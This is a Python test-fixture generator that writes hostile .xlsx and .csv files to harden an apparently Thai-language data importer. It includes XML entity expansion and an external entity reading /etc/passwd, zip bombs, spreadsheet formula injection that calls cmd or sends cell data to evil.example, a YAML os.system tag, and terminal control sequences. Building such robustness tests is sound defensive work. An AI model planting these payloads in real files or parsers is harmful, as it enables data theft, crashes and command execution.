"""Hostile spreadsheets for scripts/hostile_run.py: each is a function writing one file, named for what it tries.

Workbooks are written part by part with zipfile (openpyxl would refuse to write most of them): zip bombs,
DTDs and entities, millions of rows, huge shared strings, rows of more cells than Excel allows, hidden
sheets, formulas, control characters in every field. CSVs try the csv module's limits and encodings.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

HEADER = ["ชื่อโครงการ", "หน่วยงาน", "ปีงบประมาณ", "สรุป", "แหล่งข้อมูล"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}"
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
SHEET_TYPE = '<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "\t=1+1"]
CONTROLS = "\x1b[2J\x1b]0;pwned\x07\u202e\u2066\ufffe"


def cell(column: int, row: int, value) -> str:
    ref = _letters(column) + str(row)
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def _letters(index: int) -> str:
    name = ""
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def rows_xml(rows: Iterable[list], start: int = 1) -> Iterable[str]:
    for number, values in enumerate(rows, start=start):
        yield f'<row r="{number}">' + "".join(cell(c, number, v) for c, v in enumerate(values, start=1)) + "</row>"


def workbook(
    path: Path,
    sheets: list[tuple[str, str, Iterable[str]]],
    shared: Iterable[str] = (),
    parts: dict | None = None,
    prolog: dict | None = None,
    dimension: str = "",
) -> Path:
    """sheets: (name, state, row XML pieces); shared: <si> pieces; parts: extra or replaced parts;
    prolog: text put before the root of a part (a DTD); dimension: the size the sheets claim."""
    prolog = prolog or {}
    names = "".join(f'<sheet name="{name}" sheetId="{n}" state="{state}" r:id="rId{n}"/>' for n, (name, state, _) in enumerate(sheets, start=1))
    links = "".join(f'<Relationship Id="rId{n}" Type="{REL}/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in range(1, len(sheets) + 1))
    fixed = {
        "[Content_Types].xml": TYPES.format(sheets="".join(SHEET_TYPE.format(n=n) for n in range(1, len(sheets) + 1))),
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{names}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}">{links}'
        f'<Relationship Id="rId99" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    } | (parts or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name, text in fixed.items():
            archive.writestr(name, _with_prolog(text.encode("utf-8") if isinstance(text, str) else text, prolog.get(name)))
        _stream(
            archive,
            "xl/sharedStrings.xml",
            [f'<?xml version="1.0" encoding="UTF-8"?>{prolog.get("xl/sharedStrings.xml", "")}<sst xmlns="{MAIN}">', *shared, "</sst>"],
        )
        for n, (_, _, rows) in enumerate(sheets, start=1):
            claim = f'<dimension ref="{dimension}"/>' if dimension else ""
            head = f'<?xml version="1.0" encoding="UTF-8"?>{prolog.get(f"xl/worksheets/sheet{n}.xml", "")}<worksheet xmlns="{MAIN}">{claim}<sheetData>'
            _stream(archive, f"xl/worksheets/sheet{n}.xml", [head, *rows, "</sheetData></worksheet>"])
    return path


def _with_prolog(data: bytes, prolog: str | None) -> bytes:
    return data.replace(b"?>", b"?>" + prolog.encode(), 1) if prolog else data


def _stream(archive: zipfile.ZipFile, name: str, pieces: Iterable[str]) -> None:
    with archive.open(name, "w", force_zip64=True) as part:
        batch: list[str] = []
        for piece in pieces:
            batch.append(piece)
            if len(batch) >= 1000:
                part.write("".join(batch).encode("utf-8"))
                batch = []
        part.write("".join(batch).encode("utf-8"))


def good_rows(count: int, start: int = 0) -> list[list]:
    return [[f"โครงการทดสอบที่ {n}", "district-bang-khae", 2566, f"สรุป {n}", f"https://example.org/{n}"] for n in range(start, start + count)]


def visible(rows: Iterable[str]) -> list[tuple[str, str, Iterable[str]]]:
    return [("รายการ", "visible", rows)]


LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"
EXTERNAL = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


def _thin_rows(count: int) -> Iterable[str]:
    yield from rows_xml([HEADER])
    for start in range(2, count + 2, 1000):
        yield "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(start, min(start + 1000, count + 2)))


def xlsx_cases() -> dict[str, Callable[[Path], Path]]:
    """name -> a function writing the file at the path it is given (the name's suffix is the file's)."""
    return {
        "dtd-billion-laughs-in-sheet.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER, *good_rows(2)])), prolog={"xl/worksheets/sheet1.xml": LAUGHS}),
        "dtd-in-shared-strings.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), ["<si><t>&b;</t></si>"], prolog={"xl/sharedStrings.xml": LAUGHS}),
        "dtd-in-workbook.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), prolog={"xl/workbook.xml": LAUGHS}),
        "dtd-in-content-types.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), prolog={"[Content_Types].xml": LAUGHS}),
        "external-entity-file-etc-passwd.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), prolog={"xl/worksheets/sheet1.xml": EXTERNAL}),
        "dtd-after-a-long-comment.xlsx": lambda p: workbook(
            p, visible(rows_xml([HEADER])), prolog={"xl/worksheets/sheet1.xml": "<!--" + "x" * 200_000 + "-->" + LAUGHS}
        ),
        "utf16-part.xlsx": lambda p: workbook(
            p, visible(rows_xml([HEADER])), parts={"xl/workbook.xml": '<?xml version="1.0" encoding="UTF-16"?><workbook/>'.encode("utf-16")}
        ),
        "zip-bomb-shared-strings-65mb.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), ["<si><t>" + "0" * 1_000_000 + "</t></si>"] * 65),
        "zip-bomb-sheet-200mb.xlsx": lambda p: workbook(
            p, visible(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"0" * 1_000_000}</t></is></c></row>' for _ in range(200))
        ),
        "zip-bomb-many-parts.xlsx": lambda p: workbook(
            p, visible(rows_xml([HEADER])), parts={f"xl/media/pad{n}.xml": b"<a>" + b"0" * 60_000_000 + b"</a>" for n in range(4)}
        ),
        "two-million-rows.xlsx": lambda p: workbook(p, visible(_thin_rows(2_000_000))),
        "six-hundred-thousand-rows.xlsx": lambda p: workbook(p, visible(_thin_rows(600_000))),
        "row-number-1048576.xlsx": lambda p: workbook(p, visible([*rows_xml([HEADER]), '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'])),
        "dimension-claims-xfd1048576.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER, *good_rows(3)])), dimension="A1:XFD1048576"),
        "row-of-50000-cells.xlsx": lambda p: workbook(p, visible([*rows_xml([HEADER]), '<row r="2">' + "<c/>" * 50_000 + "</row>"])),
        "cell-of-100000-characters.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER, ["ก" * 100_000, "district-bang-khae", 2566, "x", "https://e.org"]]))),
        "shared-string-of-100000-characters.xlsx": lambda p: workbook(
            p, visible([*rows_xml([HEADER]), '<row r="2"><c r="A2" t="s"><v>0</v></c></row>']), ["<si><t>" + "ก" * 100_000 + "</t></si>"]
        ),
        "one-million-empty-shared-strings.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), ["<si><t/></si>"] * 1_000_000),
        "rich-text-of-500000-runs.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER])), ["<si>" + "<r><t>a</t></r>" * 500_000 + "</si>"]),
        "hidden-first-sheet.xlsx": lambda p: workbook(
            p, [("ร่าง", "hidden", rows_xml([["x"], ["y"]])), ("รายการ", "visible", rows_xml([HEADER, *good_rows(2)]))]
        ),
        "very-hidden-first-sheet.xlsx": lambda p: workbook(
            p, [("ลับ", "veryHidden", rows_xml([HEADER, *good_rows(2, 50)])), ("รายการ", "visible", rows_xml([HEADER, *good_rows(2)]))]
        ),
        "all-sheets-hidden.xlsx": lambda p: workbook(p, [("ร่าง", "hidden", rows_xml([HEADER, *good_rows(2)]))]),
        "formula-injection-in-every-column.xlsx": lambda p: workbook(p, visible(rows_xml([HEADER, *([f, f, f, f, f] for f in FORMULAS)]))),
        "formulas-with-cached-values.xlsx": lambda p: workbook(
            p, visible([*rows_xml([HEADER]), '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>=cmd|calc</v></c></row>'])
        ),
        "control-characters-in-every-field.xlsx": lambda p: workbook(
            p, visible(rows_xml([HEADER, [f"ลาน{CONTROLS}", "district-bang-khae", 2566, CONTROLS, "https://e.org/" + CONTROLS]]))
        ),
        "escaped-controls-in-shared-strings.xlsx": lambda p: workbook(
            p,
            visible([*rows_xml([HEADER]), '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c></row>']),
            ["<si><t>ลาน_x001B_[2J_x0007_</t></si>", "<si><t>district-bang-khae_x202E_</t></si>"],
        ),
        "not-a-zip.xlsx": lambda p: _write(p, b"PK\x03\x04" + b"\x00" * 100),
        "truncated-zip.xlsx": lambda p: _write(p, workbook(p, visible(rows_xml([HEADER, *good_rows(2)]))).read_bytes()[:300]),
        "csv-named-xlsx.xlsx": lambda p: _write(p, ",".join(HEADER).encode() + b"\n"),
        "over-20-mb.xlsx": lambda p: _write(p, b"PK" + b"\x00" * 21_000_000),
    }


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _csv(path: Path, rows: Iterable[list], encoding: str = "utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as out:
        for values in rows:
            out.write(",".join('"' + str(v).replace('"', '""') + '"' for v in values) + "\r\n")
    return path


def csv_cases() -> dict[str, Callable[[Path], Path]]:
    return {
        "cell-over-the-csv-module-limit.csv": lambda p: _csv(p, [HEADER, ["x" * 140_000, "district-bang-khae", 2566, "x", "https://e.org"]]),
        "nul-byte.csv": lambda p: _write(p, ",".join(HEADER).encode() + b"\nab\x00c,district-bang-khae,2566,x,https://e.org\n"),
        "quote-never-closed.csv": lambda p: _write(p, (",".join(HEADER) + '\n"never closed,' + "x" * 500_000 + "\n").encode()),
        "20001-rows.csv": lambda p: _csv(p, [HEADER, *good_rows(20_001)]),
        "one-million-empty-lines.csv": lambda p: _write(p, (",".join(HEADER) + "\n").encode() + b"\n" * 1_000_000),
        "300-columns.csv": lambda p: _csv(p, [HEADER + [f"c{n}" for n in range(300)], good_rows(1)[0] + ["x"] * 300]),
        "utf16.csv": lambda p: _csv(p, [HEADER, *good_rows(2)], "utf-16"),
        "tis620.csv": lambda p: _csv(p, [HEADER, *good_rows(2)], "cp874"),
        "over-20-mb.csv": lambda p: _csv(p, [HEADER, *good_rows(1)] + [["ก" * 1000] * 5] * 5000),
        "ten-mb-on-one-line.csv": lambda p: _write(p, b"x" * 10_000_000),
        "formula-injection-in-every-column.csv": lambda p: _csv(p, [HEADER, *([f] * 5 for f in FORMULAS)]),
        "formula-injection-in-valid-rows.csv": lambda p: _csv(
            p, [HEADER] + [[f"{f} โครงการ {n}", "district-bang-khae", 2566, f, "https://e.org"] for n, f in enumerate(FORMULAS)]
        ),
        "control-characters-in-every-field.csv": lambda p: _csv(
            p, [HEADER, [f"ลาน{CONTROLS}", f"district-bang-khae{CONTROLS}", f"2566{CONTROLS}", CONTROLS, CONTROLS]]
        ),
        "header-only.csv": lambda p: _csv(p, [HEADER]),
        "no-header.csv": lambda p: _csv(p, good_rows(3)),
        "duplicate-headers.csv": lambda p: _csv(p, [HEADER + ["ชื่อโครงการ"], good_rows(1)[0] + ["อีกชื่อ"]]),
        "ragged-rows.csv": lambda p: _csv(p, [HEADER, ["a"], ["a"] * 40, *good_rows(1)]),
        "yaml-tag-in-cells.csv": lambda p: _csv(
            p, [HEADER, ["!!python/object/apply:os.system [touch canary-sheet]", "district-bang-khae", 2566, "{{ 7*7 }}", "https://e.org"]]
        ),
    }
